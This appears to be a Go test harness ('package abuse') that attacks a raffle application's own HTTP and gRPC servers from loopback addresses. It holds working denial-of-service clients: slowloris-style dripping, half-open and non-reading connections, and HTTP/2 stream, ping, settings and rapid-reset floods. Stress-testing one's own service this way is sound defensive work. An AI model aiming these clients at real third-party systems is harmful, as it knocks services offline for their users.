package abuse

import (
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/netip"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Targets are what is attacked.
type Targets struct {
	HTTP string // host:port of a gateway, behind https:// if it has TLS
	GRPC string // host:port of participation
	// From has the loopback addresses that the clients have; Addresses is how many.
	From      netip.Addr
	Addresses int
}

// client does its worst on one connection, and returns when it is cut off or ctx ends.
type client func(ctx context.Context, at Targets) error

// Kinds are the kinds of hostile clients, by name.
func Kinds() map[string]client {
	return map[string]client{
		"slow-header":    slowHeader,
		"slow-body":      slowBody,
		"half-open":      halfOpen,
		"half-open-grpc": halfOpenGRPC,
		"never-reading":  neverReading,
		"reconnecting":   reconnecting,
		"calls-reset":    flood(callsReset),
		"streams":        flood(openStreams),
		"pings":          flood(ping),
		"settings":       flood(settings),
		"resets":         flood(resets),
	}
}

// pause waits, and reports whether ctx goes on.
func pause(ctx context.Context, d time.Duration) bool {
	select {
	case <-time.After(d):
		return true
	case <-ctx.Done():
		return false
	}
}

// dialer returns what connects from one of the addresses, which no honest caller has.
func (t *Targets) dialer() *net.Dialer {
	from := t.From.As4()
	from[3] += byte(rand.N(max(t.Addresses, 1)))
	return &net.Dialer{LocalAddr: &net.TCPAddr{IP: from[:]}}
}

// dial connects; the connection is closed when ctx ends.
func (t *Targets) dial(ctx context.Context, address string) (net.Conn, error) {
	c, err := t.dialer().DialContext(ctx, "tcp", address)
	if err == nil {
		context.AfterFunc(ctx, func() { _ = c.Close() })
	}
	return c, err
}

// dialHTTP connects to the gateway, by TLS if it has that. The kernel buffers little of what
// the client does not read.
func (t *Targets) dialHTTP(ctx context.Context) (net.Conn, error) {
	address, isTLS := strings.CutPrefix(t.HTTP, "https://")
	c, err := t.dial(ctx, address)
	if err != nil {
		return nil, err
	}
	if tcp, ok := c.(*net.TCPConn); ok {
		_ = tcp.SetReadBuffer(4096)
	}
	if isTLS {
		// Whoever is hostile believes any certificate.
		return tls.Client(c, &tls.Config{InsecureSkipVerify: true}), nil //nolint:gosec // G402
	}
	return c, nil
}

// drip sends text a byte at a time.
func drip(ctx context.Context, c io.Writer, text string) error {
	for i := range len(text) {
		if _, err := io.WriteString(c, text[i:i+1]); err != nil || !pause(ctx, 500*time.Millisecond) {
			return err
		}
	}
	return nil
}

func slowHeader(ctx context.Context, at Targets) error {
	c, err := at.dialHTTP(ctx)
	if err != nil {
		return err
	}
	defer func() { _ = c.Close() }()
	return drip(ctx, c, "GET /api/v1/raffles HTTP/1.1\r\nHost: localhost\r\nX: "+strings.Repeat("x", 1000))
}

func slowBody(ctx context.Context, at Targets) error {
	c, err := at.dialHTTP(ctx)
	if err != nil {
		return err
	}
	defer func() { _ = c.Close() }()
	const header = "POST /api/v1/raffles/1/entries HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n"
	if _, err := io.WriteString(c, header); err != nil {
		return err
	}
	return drip(ctx, c, strings.Repeat(" ", 1000))
}

// halfOpen connects and says nothing, not even a TLS handshake.
func halfOpen(ctx context.Context, at Targets) error {
	c, err := at.dial(ctx, strings.TrimPrefix(at.HTTP, "https://"))
	if err != nil {
		return err
	}
	defer func() { _ = c.Close() }()
	_, err = io.Copy(io.Discard, c)
	return err
}

func halfOpenGRPC(ctx context.Context, at Targets) error {
	at.HTTP = at.GRPC
	return halfOpen(ctx, at)
}

// neverReading asks for long answers and reads none of them.
func neverReading(ctx context.Context, at Targets) error {
	c, err := at.dialHTTP(ctx)
	if err != nil {
		return err
	}
	defer func() { _ = c.Close() }()
	request := strings.Repeat("GET / HTTP/1.1\r\nHost: localhost\r\n\r\n", 100)
	for ctx.Err() == nil {
		_ = c.SetWriteDeadline(time.Now().Add(time.Second))
		if _, err := io.WriteString(c, request); err != nil {
			if failed, ok := err.(net.Error); !ok || !failed.Timeout() { //nolint:errorlint // of net, and not wrapped
				return err
			}
		}
	}
	return nil
}

// reconnecting opens a stream, reads its beginning, and comes back at once.
func reconnecting(ctx context.Context, at Targets) error {
	for ctx.Err() == nil {
		connection, cancel := context.WithCancel(ctx)
		c, err := at.dialHTTP(connection)
		if err != nil {
			cancel()
			return err
		}
		_, err = io.WriteString(c, "GET /api/v1/raffles/1/subscribe HTTP/1.1\r\nHost: localhost\r\n\r\n")
		if err == nil {
			_ = c.SetReadDeadline(time.Now().Add(time.Second))
			_, err = c.Read(make([]byte, 1))
		}
		_ = c.Close()
		cancel()
		if err != nil && !pause(ctx, 10*time.Millisecond) {
			return err
		}
	}
	return nil
}

// frames writes HTTP/2 frames to a gRPC server, and reads and throws away its own.
type frames struct {
	*http2.Framer
	next   uint32 // stream
	header []byte // of a call
}

// flood connects by HTTP/2 and repeats one thing at full speed.
func flood(one func(*frames) error) client {
	return func(ctx context.Context, at Targets) error {
		c, err := at.dial(ctx, at.GRPC)
		if err != nil {
			return err
		}
		defer func() { _ = c.Close() }()
		f := &frames{Framer: http2.NewFramer(c, c), next: 1, header: callHeader()}
		if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
			return err
		}
		if err := f.WriteSettings(); err != nil {
			return err
		}
		go func() { _, _ = io.Copy(io.Discard, c) }() // ends with the connection
		for ctx.Err() == nil {
			if err := one(f); err != nil {
				return err
			}
		}
		return nil
	}
}

func callHeader() []byte {
	var block strings.Builder
	encoder := hpack.NewEncoder(&block)
	for _, field := range []hpack.HeaderField{
		{Name: ":method", Value: "POST"},
		{Name: ":scheme", Value: "http"},
		{Name: ":path", Value: "/raffle.v1.ParticipationService/Enter"},
		{Name: ":authority", Value: "x"},
		{Name: "content-type", Value: "application/grpc"},
		{Name: "te", Value: "trailers"},
	} {
		field.Sensitive = true // in no table, so that the block may be repeated
		_ = encoder.WriteField(field)
	}
	return []byte(block.String())
}

func (f *frames) open() (stream uint32, err error) {
	stream = f.next
	f.next += 2
	return stream, f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: f.header, EndHeaders: true})
}

func openStreams(f *frames) error {
	_, err := f.open()
	return err
}

func ping(f *frames) error { return f.WritePing(false, [8]byte{1}) }

func settings(f *frames) error {
	return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
}

func resets(f *frames) error {
	stream, err := f.open()
	if err != nil {
		return err
	}
	return f.WriteRSTStream(stream, http2.ErrCodeCancel)
}

// callsReset gives up calls whose requests are complete.
func callsReset(f *frames) error {
	stream, err := f.open()
	if err == nil {
		err = f.WriteData(stream, true, []byte{0, 0, 0, 0, 4, 8, 1, 18, 0})
	}
	if err == nil {
		err = f.WriteRSTStream(stream, http2.ErrCodeCancel)
	}
	return err
}

// Attack runs n clients of each of the kinds until ctx ends. One that is cut off comes
// back after a tenth of a second. It returns how often that happened, by kind.
func Attack(ctx context.Context, at Targets, n int, kinds ...string) (map[string]int, error) {
	all := Kinds()
	cut := make(chan string)
	running := 0
	for _, kind := range kinds {
		run := all[kind]
		if run == nil {
			return nil, fmt.Errorf("there is no kind %q", kind)
		}
		for range n {
			running++
			go func() {
				for ctx.Err() == nil {
					_ = run(ctx, at) // it was cut off, which is what the counts say
					if ctx.Err() == nil {
						cut <- kind
						pause(ctx, 100*time.Millisecond)
					}
				}
				cut <- ""
			}()
		}
	}
	counts := map[string]int{}
	for running > 0 {
		if kind := <-cut; kind == "" {
			running--
		} else {
			counts[kind]++
		}
	}
	return counts, nil
}
